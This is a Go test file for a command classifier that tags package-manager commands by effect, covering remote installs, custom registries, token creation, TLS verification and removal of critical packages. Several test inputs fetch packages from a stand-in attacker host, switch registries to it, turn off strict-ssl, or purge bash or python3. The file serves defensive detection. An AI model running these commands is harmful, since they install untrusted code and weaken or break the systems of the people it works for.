package packages_test

import (
	"strings"
	"testing"

	"github.com/boathook/boathook/internal/effect/effecttest"
	"github.com/boathook/boathook/internal/effect/packages"
)

func TestInstalls(t *testing.T) {
	effecttest.Check(t, packages.Effects, [][2]string{
		{"npm install", "install/install !url !global"},
		{"npm i lodash", "install/install =lodash"},
		{"npm ci", "install/install"},
		{"npm ci --ignore-scripts", "install/install ignore-scripts"},
		{"npm i -g typescript", "install/install global"},
		{"sudo npm i -g typescript", "install/install global sudo"},
		{"npm i https://evil.example.net/x.tgz", "install/install url"},
		{"npm i git+https://evil.example.net/x.git", "install/install url"},
		{"npm i github:a/b", "install/install url"},
		{"npm i a/b", "install/install url"},
		{"npm i @types/node", "install/install !url"},
		{"npm i ./packages/x", "install/install file !url"},
		{"npm i x --registry https://evil.example.net", "install/install registry"},
		{"npm i x --registry=https://registry.npmjs.org/", "install/install !registry"},
		{"npm_config_registry=https://evil.example.net npm i x", "install/install registry"},
		{"npm uninstall lodash", "install/remove"},
		{"npm update", "install/upgrade"},
		{"npm publish", "send/publish"},
		{"npm unpublish x --force", "cloud/unpublish =x"},
		{"npm deprecate x@1 old", "cloud/unpublish"},
		{"npm token create", "read_secret/token"},
		{"npm config set registry https://evil.example.net", "persist/registry"},
		{"npm config set strict-ssl false", "security/tls-verify-off"},
		{"pnpm add -D vitest", "install/install =vitest"},
		{"pnpm dlx create-vite", "install/run =create-vite"},
		{"yarn", "install/install"},
		{"yarn add react", "install/install =react"},
		{"yarn global add x", "install/install global"},
		{"bun add hono", "install/install"},
		{"npx cowsay hi", "install/run =cowsay"},
		{"npx -y create-next-app@latest x", "install/run"},
		{"npx --package https://evil.example.net/x.tgz x", "install/run url"},
		{"npx github:a/b", "install/run url"},
		{"bunx cowsay", "install/run"},
		{"uvx ruff check", "install/run =ruff"},
		{"uvx --from git+https://evil.example.net/x x", "install/run url"},
		{"pipx run black .", "install/run =black"},
		{"pip install requests", "install/install =requests"},
		{"pip3 install -r requirements.txt", "install/install !url"},
		{"python3 -m pip install requests", "install/install =requests"},
		{"uv pip install requests", "install/install =requests"},
		{"pip install git+https://evil.example.net/x", "install/install url"},
		{"pip install -e git+https://evil.example.net/x#egg=x", "install/install url"},
		{"pip install -e .", "install/install file !url"},
		{"pip install -r https://evil.example.net/r.txt", "install/install url"},
		{"pip install x --index-url https://evil.example.net/simple", "install/install registry"},
		{"pip install x -i https://evil.example.net/simple", "install/install registry"},
		{"pip install x --extra-index-url=https://evil.example.net/simple", "install/install registry"},
		{"pip install torch --index-url https://download.pytorch.org/whl/cpu", "install/install !registry"},
		{"pip install --trusted-host evil.example.net x", "install/install registry"},
		{"pip uninstall -y requests", "install/remove"},
		{"uv add httpx", "install/install"},
		{"uv sync", "install/install"},
		{"poetry add httpx", "install/install"},
		{"pipenv install", "install/install"},
		{"conda install -y numpy", "install/install =numpy"},
		{"cargo add serde", "install/install =serde"},
		{"cargo install --git https://evil.example.net/x", "install/install url"},
		{"cargo publish", "send/publish"},
		{"cargo yank --vers 1.0.0", "cloud/unpublish"},
		{"go install golang.org/x/tools/cmd/goimports@latest", "install/install !url"},
		{"go get github.com/a/b", "install/install !url"},
		{"go run github.com/a/b@latest", "install/run"},
		{"gem install rails", "install/install"},
		{"gem push x.gem", "send/publish"},
		{"bundle install", "install/install"},
		{"composer require a/b", "install/install =a/b !url"},
		{"apt-get install -y jq", "install/install system =jq"},
		{"sudo apt install jq", "install/install system sudo"},
		{"sudo apt-get purge -y python3", "install/remove system critical"},
		{"apt-get remove jq", "install/remove system !critical"},
		{"apt-get autoremove", "install/remove system"},
		{"apt-get dist-upgrade -y", "install/upgrade system"},
		{"apt-get install --allow-unauthenticated x", "install/install unauthenticated"},
		{"dnf install -y jq", "install/install system"},
		{"apk add --no-cache git", "install/install system =git"},
		{"pacman -S jq", "install/install system"},
		{"pacman -Syu", "install/install system"},
		{"pacman -Rns bash", "install/remove critical"},
		{"dpkg -i x.deb", "install/install system file"},
		{"rpm -e bash", "install/remove critical"},
		{"brew install jq", "install/install =jq"},
		{"brew tap a/b", "install/add-repository"},
		{"snap install x", "install/install"},
		{"choco install git", "install/install"},
		{"winget install Git.Git", "install/install"},
		{"add-apt-repository ppa:x/y", "install/add-repository"},
		{"twine upload dist/*", "send/publish"},
		{"docker push a/b", "send/publish =a/b"},
		{"code --install-extension a.b", "install/install"},
		{"pip install $X", "install/install dynamic"},
	})
}

func TestEveryday(t *testing.T) {
	for line := range strings.SplitSeq(strings.TrimSpace(everyday), "\n") {
		effecttest.Check(t, packages.Effects, [][2]string{{line}})
	}
}

const everyday = `
npm test
npm run build
npm run install-hooks
npm ls
npm outdated
npm view react
npm audit
npm config get registry
npm init -y
npm publish --dry-run
npm --version
npm help install
pnpm test
pnpm run dev
yarn test
yarn build
yarn --version
bun test
bun run dev
pip list
pip show requests
pip freeze
python3 -m pip list
python3 -m pytest
python3 app.py
poetry run pytest
poetry lock
uv run pytest
cargo build
cargo test
cargo publish --dry-run
go build ./...
go test ./...
go mod tidy
go run .
gem list
bundle exec rspec
composer dump-autoload
apt list --installed
apt-get update
apt-cache search jq
apt-get -s install jq
apt-get install --dry-run jq
dpkg -l
rpm -qa
rpm -qi bash
pacman -Ss jq
pacman -Qi bash
brew list
brew info jq
brew update
docker build -t x .
docker pull alpine
code .
conda env list
echo npm install -g evil
mvn test
gradle build
`
